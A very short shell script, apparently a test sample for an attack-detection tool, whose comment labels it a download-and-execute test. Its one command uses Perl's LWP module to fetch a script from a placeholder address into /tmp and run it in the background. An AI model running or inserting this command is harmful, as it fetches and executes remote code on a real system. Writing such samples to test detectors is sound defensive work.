#!/bin/sh
# shrike-test-attack: download-exec: perl LWP fetch and run when curl is absent
perl -MLWP::Simple -e 'getstore("http://198.51.100.61/k.pl","/tmp/k.pl")' && perl /tmp/k.pl &
